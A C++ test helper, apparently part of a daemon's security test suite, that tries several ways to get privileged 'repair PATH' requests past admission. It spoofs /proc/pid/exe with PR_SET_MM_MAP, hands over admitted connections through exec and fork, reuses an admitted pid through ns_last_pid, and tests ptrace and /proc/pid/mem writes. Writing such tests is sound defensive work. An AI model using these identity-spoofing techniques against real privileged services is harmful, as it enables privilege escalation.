// tavelin_rogue_client: what an unprivileged user does to get requests past admission
// without running the signed client's code. Each mode asks the daemon (its name in
// TAVELIN_SERVICE_NAME) to repair PATH and prints "answered" when the request was answered,
// "closed" when the connection was closed first, "failed: <why>" when the attack itself
// could not be set up.
//
//   spoof PATH SIGNED   moves its own code into anonymous memory, so that its executable is
//                       no longer mapped, enters a user namespace of its own (where it holds
//                       CAP_SYS_ADMIN) and names SIGNED as its executable (PR_SET_MM_MAP);
//                       /proc/<pid>/exe then shows the signed file. Then it asks.
//   exe PATH SIGNED     (root) the same without a namespace of its own: in ours,
//                       PR_SET_MM_MAP takes CAP_SYS_ADMIN (PR_SET_MM_EXE_FILE would take
//                       CAP_SYS_RESOURCE, which root may lack in a container). Then it asks.
//   direct PATH         asks, as itself.
//   exec PATH PROGRAM   is admitted as itself (this build is signed), then hands the
//                       connection to PROGRAM over exec: "PROGRAM inherited FD PATH".
//   inherited FD PATH   asks on the connection it was given.
//   fork PATH           is admitted as itself, then asks from a forked child.
//   reuse PATH          (root) has a child admitted that passes the connection up and
//                       exits; once the child is reaped, makes the kernel hand the child's
//                       pid to a new process (ns_last_pid), which asks. Prints
//                       "reused <pid> " before its report.
//   traceme PROGRAM [ARG...]   starts PROGRAM as its tracer would (PTRACE_TRACEME), and
//                       lets it go at its first stop, the exec, before it connects.
//   memwrite PROGRAM [ARG...]  starts PROGRAM, stops it once it has exec'd, and tries to
//                       open its memory for writing; prints "memory open" or
//                       "memory refused", then lets it go on. PROGRAM's output is held in
//                       a full pipe until then, so it cannot print or end before, and is
//                       passed on after.
#include <fcntl.h>
#include <linux/prctl.h>
#include <sched.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include "TavelinPlatform/channel/ChannelSocket.h"
#include "TavelinPlatform/core/UniqueFd.h"
#include "TavelinPlatform/ipc/Frame.h"
#include "TavelinPlatform/ipc/UnixSocket.h"
#include "TavelinPlatform/ipc/tests/FrameReading.h"
#include "TavelinShared/PrivilegedOperation.h"

namespace {

using namespace tavelin;

std::string readText(const char* path) {
    std::ifstream file(path);
    std::stringstream text;
    text << file.rdbuf();
    return text.str();
}

// Replaces each mapping of our executable by an anonymous one holding the same bytes:
// mremap over the original is one step, so the code running this loop is the same before
// and after.
bool unmapOwnExecutable() {
    struct stat self {};
    if (::stat("/proc/self/exe", &self) != 0) {
        return false;
    }
    const std::string maps = readText("/proc/self/maps");
    std::istringstream lines(maps);
    std::string line;
    while (std::getline(lines, line)) {
        unsigned long start = 0;
        unsigned long end = 0;
        unsigned long inode = 0;
        char permissions[5] = {};
        if (std::sscanf(line.c_str(), "%lx-%lx %4s %*x %*x:%*x %lu", &start, &end, permissions,
                        &inode) != 4 ||
            inode != self.st_ino) {
            continue;
        }
        const std::size_t length = end - start;
        // Straight to the kernel: a sanitizer's interceptors have no say in this.
        void* copy = reinterpret_cast<void*>(::syscall(SYS_mmap, nullptr, length,
                                                       PROT_READ | PROT_WRITE | PROT_EXEC,
                                                       MAP_PRIVATE | MAP_ANONYMOUS, -1, 0));
        if (copy == MAP_FAILED) {
            return false;
        }
        // Copied by the kernel too: a sanitizer would see a read across its own globals.
        const long memory = ::syscall(SYS_open, "/proc/self/mem", O_RDONLY | O_CLOEXEC);
        const long copied =
            memory < 0 ? -1
                       : ::syscall(SYS_pread64, memory, copy, length, static_cast<long>(start));
        ::syscall(SYS_close, memory);
        if (copied != static_cast<long>(length)) {
            return false;
        }
        // NOLINTNEXTLINE(performance-no-int-to-ptr)
        if (::syscall(SYS_mremap, copy, length, length, MREMAP_MAYMOVE | MREMAP_FIXED,
                      reinterpret_cast<void*>(start)) == -1) {
            return false;
        }
    }
    return true;
}

// Our memory layout as the kernel keeps it, which PR_SET_MM_MAP must be given back whole.
bool currentLayout(prctl_mm_map& map) {
    const std::string stat = readText("/proc/self/stat");
    const std::size_t afterName = stat.rfind(')');
    if (afterName == std::string::npos) {
        return false;
    }
    // Fields from the third on (state); field n of the stat line is values[n - 3].
    std::istringstream fields(stat.substr(afterName + 2));
    std::vector<std::string> values;
    for (std::string field; fields >> field;) {
        values.push_back(field);
    }
    if (values.size() < 49) {
        return false;
    }
    const auto at = [&](std::size_t field) { return std::stoull(values[field - 3]); };
    map.start_code = at(26);
    map.end_code = at(27);
    map.start_stack = at(28);
    map.start_data = at(45);
    map.end_data = at(46);
    map.start_brk = at(47);
    map.brk = reinterpret_cast<std::uintptr_t>(::sbrk(0));
    map.arg_start = at(48);
    map.arg_end = at(49);
    map.env_start = at(50);
    map.env_end = at(51);
    return true;
}

// Names the signed file as our executable, in a user namespace of our own or in this one.
std::string spoofExecutable(const char* signedPath, bool ownNamespace) {
    const UniqueFd signedFile(::open(signedPath, O_RDONLY | O_CLOEXEC));
    if (!signedFile) {
        return "open " + std::string(signedPath);
    }
    // The kernel changes the exe only once the old one is no longer mapped (else EBUSY).
    if (!unmapOwnExecutable()) {
        return "moving our code to anonymous memory";
    }
    if (ownNamespace && ::unshare(CLONE_NEWUSER) != 0) {
        return "unshare(CLONE_NEWUSER): " + std::string(std::strerror(errno));
    }
    prctl_mm_map map{};
    if (!currentLayout(map)) {
        return "reading /proc/self/stat";
    }
    map.exe_fd = static_cast<std::uint32_t>(signedFile.get());
    if (::prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof map, 0) != 0) {
        return "PR_SET_MM_MAP: " + std::string(std::strerror(errno));
    }
    return {};
}

// Waits for one frame; false when the connection closed first.
bool receiveFrame(int fd) {
    FrameReader reader;
    return tavelin::testing::readFrame(fd, reader).has_value();
}

// Asks for a repair of `path`; true when an answer came.
bool askForRepair(int fd, const std::string& path) {
    const std::string request = PrivilegedOperation::repairPermissions(path).encode().value();
    const std::string call = *encodeCall(CallFrame{1, CallSelector::perform, request});
    return sendAll(fd, call).has_value() && receiveFrame(fd);
}

// A connection whose HELLO arrived (we were admitted); invalid when it was closed.
UniqueFd admittedConnection() {
    const char* name = std::getenv("TAVELIN_SERVICE_NAME");
    auto connected = connectToAbstractName(name != nullptr ? name : "");
    if (!connected || !receiveFrame(connected->get())) {
        return UniqueFd();
    }
    return std::move(connected).value();
}

int report(bool answered) {
    std::printf(answered ? "answered\n" : "closed\n");
    std::fflush(stdout);
    return 0;
}

int askDirectly(const std::string& path) {
    const UniqueFd connection = admittedConnection();
    return report(connection && askForRepair(connection.get(), path));
}

int handOver(const std::string& path, const char* program) {
    const UniqueFd connection = admittedConnection();
    if (!connection) {
        std::printf("failed: not admitted as ourselves\n");
        return 1;
    }
    ::fcntl(connection.get(), F_SETFD, 0);
    const std::string fd = std::to_string(connection.get());
    ::execl(program, program, "inherited", fd.c_str(), path.c_str(), nullptr);
    std::printf("failed: exec %s\n", program);
    return 1;
}

}  // namespace

int askFromChild(const std::string& path) {
    const UniqueFd connection = admittedConnection();
    if (!connection) {
        std::printf("failed: not admitted as ourselves\n");
        return 1;
    }
    std::fflush(stdout);
    const pid_t child = ::fork();
    if (child == 0) {
        ::_exit(report(askForRepair(connection.get(), path)));
    }
    int status = 0;
    ::waitpid(child, &status, 0);
    return 0;
}

// The next process this pid namespace makes gets `pid` (unless another takes it first).
bool nextPidWillBe(pid_t pid) {
    std::ofstream lastPid("/proc/sys/kernel/ns_last_pid");
    lastPid << pid - 1;
    lastPid.flush();
    return lastPid.good();
}

int askUnderAReusedPid(const std::string& path) {
    constexpr int reusedPidExit = 3;
    for (int attempt = 0; attempt < 20; ++attempt) {
        auto pair = channel::makeChannelPair();
        if (!pair) {
            break;
        }
        const pid_t admitted = ::fork();
        if (admitted == 0) {
            const UniqueFd connection = admittedConnection();
            static_cast<void>(channel::sendDatagram(pair->frontEnd.get(), "c", connection.get()));
            ::_exit(0);
        }
        pair->frontEnd.reset();
        auto received = channel::receiveDatagram(pair->monitorEnd.get());
        const UniqueFd connection = received ? std::move(received->descriptor) : UniqueFd();
        ::waitpid(admitted, nullptr, 0);  // its pid is free from here on
        if (!connection || !nextPidWillBe(admitted)) {
            std::printf("failed: no admitted connection, or ns_last_pid not writable\n");
            return 1;
        }
        std::fflush(stdout);
        const pid_t successor = ::fork();
        if (successor == 0) {
            if (::getpid() != admitted) {
                ::_exit(reusedPidExit);
            }
            std::printf("reused %d ", static_cast<int>(admitted));
            ::_exit(report(askForRepair(connection.get(), path)));
        }
        int status = 0;
        ::waitpid(successor, &status, 0);
        if (!WIFEXITED(status) || WEXITSTATUS(status) != reusedPidExit) {
            return 0;
        }
    }
    std::printf("failed: the pid was never handed out again\n");
    return 1;
}

int runTraced(char** program) {
    const pid_t child = ::fork();
    if (child == 0) {
        ::ptrace(PTRACE_TRACEME, 0, nullptr, nullptr);
        ::execv(program[0], program);
        ::_exit(127);
    }
    int status = 0;
    ::waitpid(child, &status, 0);  // the exec stop
    ::ptrace(PTRACE_DETACH, child, nullptr, nullptr);
    ::waitpid(child, &status, 0);
    return 0;
}

// True once `pid` no longer runs the program at `ours` (it exec'd, or we may not look).
bool hasExeced(pid_t pid, const std::string& ours) {
    char target[4096];
    const std::string link = "/proc/" + std::to_string(pid) + "/exe";
    const ssize_t length = ::readlink(link.c_str(), target, sizeof target - 1);
    return length < 0 || std::string(target, static_cast<std::size_t>(length)) != ours;
}

// Fills a pipe's buffer, so that the next write to it waits for a read; the bytes written.
std::size_t fill(int writeEnd) {
    const int flags = ::fcntl(writeEnd, F_GETFL);
    ::fcntl(writeEnd, F_SETFL, flags | O_NONBLOCK);
    std::size_t filled = 0;
    const char block[4096] = {};
    // Whole pages first, then single bytes into whatever room the last one left.
    for (const std::size_t size : {sizeof block, std::size_t{1}}) {
        for (ssize_t written = 0; (written = ::write(writeEnd, block, size)) > 0;) {
            filled += static_cast<std::size_t>(written);
        }
    }
    ::fcntl(writeEnd, F_SETFL, flags);
    return filled;
}

// Reads the `filler` bytes we put into the pipe, then passes the rest on to our stdout.
void passOn(int readEnd, std::size_t filler) {
    char buffer[4096];
    for (;;) {
        const ssize_t count = ::read(readEnd, buffer, sizeof buffer);
        if (count < 0 && errno == EINTR) {
            continue;
        }
        if (count <= 0) {
            break;
        }
        const auto got = static_cast<std::size_t>(count);
        const std::size_t skipped = std::min(filler, got);
        filler -= skipped;
        static_cast<void>(std::fwrite(buffer + skipped, 1, got - skipped, stdout));
    }
    std::fflush(stdout);
}

int writeIntoMemory(char** program) {
    char self[4096];
    const ssize_t length = ::readlink("/proc/self/exe", self, sizeof self - 1);
    const std::string ours(self, static_cast<std::size_t>(std::max<ssize_t>(length, 0)));
    int ends[2] = {-1, -1};
    if (::pipe2(ends, O_CLOEXEC) != 0) {
        std::printf("failed: pipe\n");
        return 1;
    }
    const UniqueFd held(ends[0]);
    UniqueFd output(ends[1]);
    const std::size_t filler = fill(output.get());
    const pid_t child = ::fork();
    if (child == 0) {
        ::dup2(output.get(), STDOUT_FILENO);
        ::dup2(output.get(), STDERR_FILENO);
        ::execv(program[0], program);
        ::_exit(127);
    }
    output.reset();
    while (!hasExeced(child, ours)) {
        ::sched_yield();
    }
    ::kill(child, SIGSTOP);
    const std::string memory = "/proc/" + std::to_string(child) + "/mem";
    const UniqueFd opened(::open(memory.c_str(), O_RDWR | O_CLOEXEC));
    std::printf(opened ? "memory open\n" : "memory refused\n");
    std::fflush(stdout);
    ::kill(child, SIGCONT);
    passOn(held.get(), filler);
    int status = 0;
    ::waitpid(child, &status, 0);
    return 0;
}

int main(int argc, char** argv) {
    const std::vector<std::string> words(argv + 1, argv + argc);
    if (words.size() == 3 && (words[0] == "spoof" || words[0] == "exe")) {
        const std::string failed = spoofExecutable(argv[3], words[0] == "spoof");
        if (!failed.empty()) {
            std::printf("failed: %s\n", failed.c_str());
            return 1;
        }
        return askDirectly(words[1]);
    }
    if (words.size() == 2 && words[0] == "direct") {
        return askDirectly(words[1]);
    }
    if (words.size() == 3 && words[0] == "exec") {
        return handOver(words[1], argv[3]);
    }
    if (words.size() >= 2 && words[0] == "traceme") {
        return runTraced(argv + 2);
    }
    if (words.size() >= 2 && words[0] == "memwrite") {
        return writeIntoMemory(argv + 2);
    }
    if (words.size() == 2 && words[0] == "fork") {
        return askFromChild(words[1]);
    }
    if (words.size() == 2 && words[0] == "reuse") {
        return askUnderAReusedPid(words[1]);
    }
    if (words.size() == 3 && words[0] == "inherited") {
        return report(askForRepair(std::stoi(words[1]), words[2]));
    }
    std::fprintf(
        stderr,
        "usage: %s spoof PATH SIGNED | exe PATH SIGNED | direct PATH | exec PATH PROGRAM | "
        "inherited FD PATH | fork PATH | reuse PATH | traceme PROGRAM... | "
        "memwrite PROGRAM...\n",
        argv[0]);
    return 64;
}
